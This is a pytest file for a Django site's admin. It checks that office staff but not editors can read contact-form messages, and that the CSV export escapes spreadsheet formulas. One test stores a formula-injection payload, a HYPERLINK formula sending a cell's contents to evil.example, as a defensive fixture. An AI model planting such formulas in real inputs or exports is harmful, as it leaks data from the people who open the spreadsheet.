import pytest

from kopofo.contact.models import ContactSubmission
from kopofo.pages.staff import EDITORS, OFFICE
from tests.factories import ContactPageFactory, StaffUserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def message(home):
    page = ContactPageFactory(parent=home)
    return ContactSubmission.objects.create(
        page=page, form_data={"name": "Erika Muster", "nachricht": "Bitte ruft mich an."}
    )


def test_the_office_reads_contact_messages_in_the_admin(client, message):
    client.force_login(StaffUserFactory(username="otto", group=OFFICE))

    forms = client.get("/admin/forms/").content.decode()
    submissions = client.get(f"/admin/forms/submissions/{message.page_id}/")

    assert "Kontakt" in forms
    assert submissions.status_code == 200
    assert "Bitte ruft mich an." in submissions.content.decode()


def test_editors_do_not_see_what_people_wrote_to_the_office(client, message):
    client.force_login(StaffUserFactory(username="erika", group=EDITORS))

    forms = client.get("/admin/forms/").content.decode()
    submissions = client.get(f"/admin/forms/submissions/{message.page_id}/")

    assert f"/admin/forms/submissions/{message.page_id}/" not in forms
    assert submissions.status_code in (302, 403)
    assert "Bitte ruft mich an." not in submissions.content.decode()


def test_the_csv_export_of_messages_cannot_smuggle_a_formula_into_the_offices_spreadsheet(
    client, message
):
    ContactSubmission.objects.create(
        page=message.page,
        form_data={
            "name": '=HYPERLINK("https://evil.example/?"&A1;"Klick")',
            "nachricht": "@SUM(1+1)",
        },
    )
    client.force_login(StaffUserFactory(username="otto", group=OFFICE))

    response = client.get(f"/admin/forms/submissions/{message.page_id}/", {"export": "csv"})

    export = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK(" in export and "'@SUM(1+1)" in export
    assert ",=HYPERLINK" not in export and "\n=HYPERLINK" not in export
    assert "Bitte ruft mich an." in export
